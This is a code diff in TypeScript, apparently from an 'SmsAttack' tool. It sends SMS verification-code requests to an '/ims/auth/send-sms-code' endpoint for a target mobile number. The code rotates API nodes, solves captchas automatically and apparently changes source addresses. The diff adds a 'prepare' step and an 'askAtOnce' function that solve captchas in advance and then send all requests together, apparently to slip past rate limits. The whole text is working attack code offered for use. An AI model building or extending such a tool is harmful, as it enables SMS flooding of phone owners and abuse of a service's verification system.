@@ -22,17 +22,26 @@ export const anotherNumber = () => {
   return `137${String(numbered).padStart(8, '0')}`
 }
 
-export async function ask(
-  { nodes }: Pick<SmsAttack, 'nodes'>,
-  mobile: string,
-  portal: string,
-  address = elsewhere(),
-): Promise<Told> {
-  const { origin } = nodes[asked % nodes.length] as ApiNode
+type Ask = () => Promise<Told>
+
+/** Everything but the asking: the work is done before, so that those who ask at once really do. */
+async function prepare({ nodes }: SmsAttack, mobile: string, portal: string, address: string): Promise<Ask> {
+  const turn = asked
+  const { origin } = nodes[turn % nodes.length] as ApiNode
   const visitor = new Visitor(portal)
   const captchaVerification = await visitor.prove(origin, 'sms', address)
-  const body = { mobile, scene: 1 + (asked % 2), captchaVerification }
-  return visitor.ask(origin, 'POST /ims/auth/send-sms-code', { body, address })
+  const body = { mobile, scene: 1 + (turn % 2), captchaVerification }
+  return () => visitor.ask(origin, 'POST /ims/auth/send-sms-code', { body, address })
+}
+
+export async function ask(attack: SmsAttack, mobile: string, portal: string, address = elsewhere()): Promise<Told> {
+  return (await prepare(attack, mobile, portal, address))()
+}
+
+export async function askAtOnce(attack: SmsAttack, mobile: string, portals: readonly string[]): Promise<Told[]> {
+  const asks: Ask[] = []
+  await inLanes(portals, 4, async (portal) => void asks.push(await prepare(attack, mobile, portal, elsewhere())))
+  return Promise.all(asks.map((each) => each()))
 }
 
 /** Ever new numbers, from ever new addresses or from one. */
